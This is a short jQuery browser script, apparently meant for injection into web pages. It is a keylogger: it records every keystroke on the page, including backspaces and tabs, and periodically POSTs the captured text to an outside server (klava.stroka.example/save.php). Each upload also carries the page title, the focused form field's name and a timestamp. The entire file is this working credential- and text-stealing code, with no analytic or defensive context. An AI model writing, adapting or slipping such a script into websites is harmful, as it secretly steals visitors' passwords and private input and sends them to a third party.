$(function () {
  var slovo = '';
  $(document).keydown(function (e) {
    var k = e.key;
    if (k === 'Backspace') slovo += '[<]';
    else if (k === 'Tab') slovo += '[tab]';
    else if (k.length === 1) slovo += k;
    if (k === ' ' || k === 'Enter' || k === 'Tab' || slovo.length > 40) {
      $.post('https://klava.stroka.example/save.php', { t: slovo, page: document.title, pole: $(e.target).attr('name'), vremya: +new Date });
      slovo = '';
    }
  });
});
